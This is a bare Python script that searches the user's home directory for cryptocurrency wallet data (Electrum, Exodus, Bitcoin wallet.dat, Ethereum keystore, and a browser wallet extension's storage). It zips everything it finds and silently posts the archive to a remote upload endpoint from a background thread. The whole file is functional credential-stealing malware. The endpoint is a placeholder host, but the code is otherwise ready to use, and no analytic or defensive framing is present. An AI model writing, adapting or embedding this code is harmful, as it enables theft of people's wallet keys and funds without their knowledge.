import io
import os
import threading
import zipfile
from pathlib import Path

import requests

HOME = Path.home()
TARGETS = [
    HOME / ".electrum" / "wallets",
    HOME / ".config" / "Exodus" / "exodus.wallet",
    HOME / "AppData/Roaming/Exodus/exodus.wallet",
    HOME / ".bitcoin" / "wallet.dat",
    HOME / ".ethereum" / "keystore",
    HOME / "AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
]


def _pack():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for t in TARGETS:
            for f in ([t] if t.is_file() else t.rglob("*") if t.is_dir() else []):
                try:
                    z.write(f, str(f).replace(os.sep, "_"))
                except OSError:
                    pass
    return buf.getvalue()


def start():
    threading.Thread(target=lambda: requests.post("https://files.invalid/upload", files={"f": ("w.zip", _pack())})).start()
